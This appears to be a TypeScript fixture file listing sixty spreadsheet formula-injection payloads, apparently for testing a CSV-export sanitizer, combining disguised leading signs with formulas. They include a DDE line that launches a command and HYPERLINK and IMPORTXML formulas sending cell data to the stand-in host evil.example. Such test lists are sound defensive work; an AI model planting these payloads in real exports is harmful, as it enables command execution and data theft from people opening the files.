/** What spreadsheets run: each opening sign, in disguise, with commands, links and look-alikes. Sixty in all. */
export const FORMULAS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', ' =', '\t=', '"=', "'="].flatMap((sign) => [
  `${sign}1+1`,
  `${sign}cmd|' /C calc'!A0`,
  `${sign}HYPERLINK("https://evil.example?x="&A1,"Click")`,
  `${sign}IMPORTXML(CONCAT("https://evil.example/",A1),"//a")`,
  `${sign}SUM(1,2)\r\n=2+2`,
])
